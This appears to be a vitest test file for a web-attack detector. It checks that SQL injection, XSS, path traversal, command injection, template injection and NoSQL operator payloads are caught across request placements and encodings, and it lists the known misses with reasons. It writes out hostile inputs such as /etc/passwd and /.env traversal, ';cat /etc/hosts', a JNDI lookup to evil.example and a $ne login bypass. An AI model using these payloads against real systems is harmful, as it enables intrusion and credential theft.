// Are attacks found, wherever they stand and however they are hidden?

import { describe, expect, it } from "vitest";
import { inspect } from "../../host-sim/src/mock-node/detection/index.ts";
import { payloads } from "./support/corpus.ts";
import { ENCODERS, PLACEMENTS, request } from "./support/requests.ts";

/** Known and accepted: what is not found, and why. */
const NOT_FOUND: Readonly<Record<string, string>> = {
  "1=1": "alone it is as much a search for arithmetic as an attack",
  "/var/log/auth.log": "outside of a path or a parameter for files, applications name their logs",
  "../index.php": "one step up is how pages and sources name their neighbours",
  "<img src='//evil.example/log?": "a tag without its end is also what is left of a cut text",
  ";a=l;b=s;$a$b": "a command put together from variables shows no command",
  "{{range 10}}x{{end}}": "a loop is what templates are for",
  '{{printf "%s" "ssti"}}': "formatting is what templates are for",
};

/** Known and accepted under one encoding. */
const NOT_FOUND_ENCODED: ReadonlyArray<{ payload: string; encoding: string; why: string }> = [
  { payload: "'='", encoding: "base64", why: "four characters of base64 are as likely a word" },
  {
    payload: "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    encoding: "zero-width characters",
    why: "the marks split the payload's own percent triplets, so that nobody decodes it",
  },
];

const isListed = (payload: string, encoding: string): boolean =>
  payload in NOT_FOUND ||
  NOT_FOUND_ENCODED.some((known) => known.payload === payload && known.encoding === encoding);

const all = [...payloads("first"), ...payloads("held-out"), ...payloads("held-out-2")];

describe("attacks that the rules know", () => {
  for (const [point, place] of Object.entries(PLACEMENTS)) {
    it(`are all found in a ${point}`, () => {
      const missed = all.filter(({ payload }) => inspect(place(payload)).length === 0);
      expect(missed.filter(({ payload }) => !isListed(payload, ""))).toEqual([]);
    });
  }

  for (const [name, encode] of Object.entries(ENCODERS)) {
    it(`are all found when hidden by this encoding: ${name}`, () => {
      const points = ["query value", "form value", "JSON value", "XML text", "cookie"];
      const missed = points.flatMap((point) =>
        all
          .filter(({ payload }) => inspect(PLACEMENTS[point]!(encode(payload))).length === 0)
          .filter(({ payload }) => !isListed(payload, name))
          .map(({ payload }) => `${point}: ${payload}`),
      );
      expect(missed).toEqual([]);
    });
  }

  it("are filed under their type", () => {
    const wrong = all.filter(
      ({ type, payload }) =>
        !inspect(PLACEMENTS["query value"]!(payload)).some((attack) => attack.type === type),
    );
    const others = wrong.map(({ payload }) => payload).filter((payload) => !isListed(payload, ""));
    // PHP inside ${…} is a template expression as much as a command.
    expect(others).toEqual(["${@print(md5(1))}"]);
  });

  it("are at least four hundred, over all types, points and encodings", () => {
    const types = new Set(all.map(({ type }) => type));
    expect([...types].sort()).toEqual(["ptrav", "rce", "sqli", "ssti", "xss"]);
    expect(
      all.length * Object.keys(PLACEMENTS).length * Object.keys(ENCODERS).length,
    ).toBeGreaterThan(400);
  });
});

describe("attacks on document databases and XML parsers", () => {
  for (const { type, payload } of payloads("other")) {
    it(`are found as ${type}: ${payload.slice(0, 50)}`, () => {
      const types = inspect(PLACEMENTS["form value"]!(payload)).map((attack) => attack.type);
      expect(types).toContain(type);
    });
  }

  it("are found as operators in names of a query and in keys of JSON", () => {
    const query = inspect(request("/login?user[$ne]=x&password[$ne]=x"));
    expect(query.map(({ type }) => type)).toContain("nosqli");
    const body = inspect(
      request("/login", [["content-type", "application/json"]], '{"password":{"$gt":""}}'),
    );
    expect(body.map(({ rule }) => rule)).toContain("nosqli-operator");
  });
});

describe("attacks in the path", () => {
  const paths = [
    "/etc/passwd",
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252fetc%252fpasswd",
    "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/a/..;/manager/html",
    "/static/..%5c..%5cwindows%5cwin.ini",
    "/.git/config",
    "/.env",
    "/items/1'%20or%20'1'='1",
    "/items/1%20union%20select%201,2,3",
    "/search/%3Cscript%3Ealert(1)%3C/script%3E",
    "/ping/127.0.0.1;cat%20/etc/hosts",
    "/hello/$%7Bjndi:ldap://evil.example/a%7D",
    "/hello/%7B%7B7*7%7D%7D",
  ];
  it.each(paths)("are found: %s", (path) => {
    expect(inspect(request(path))).not.toEqual([]);
  });
});
